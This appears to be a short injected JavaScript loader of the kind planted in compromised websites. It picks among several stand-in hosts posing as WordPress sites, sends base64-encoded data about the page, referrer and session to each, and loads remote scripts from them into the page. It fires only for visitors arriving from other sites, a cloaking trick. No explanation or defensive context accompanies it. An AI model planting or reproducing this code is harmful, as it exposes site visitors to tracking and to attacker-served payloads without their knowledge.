(function (w, d) {
  var nodes = ['pottery-lane.example', 'fjord-cabin.example', 'alumni-choir.example'];
  var pick = nodes.sort(function () { return 0.5 - Math.random(); }).slice(0, 3);
  var sid = '0000000000', n = 0;
  function go(host) {
    var s = d.createElement('script');
    s.async = true;
    s.setAttribute('data-cat', '00');
    s.setAttribute('data-mode', n++);
    s.src = 'https://' + host + '/wp-content/counts.php?data=' + btoa(JSON.stringify({ h: location.hostname, r: d.referrer, i: sid }));
    (d.head || d.documentElement).appendChild(s);
  }
  if (d.referrer && d.referrer.indexOf(location.host) < 0) { pick.forEach(go); }
})(window, document);
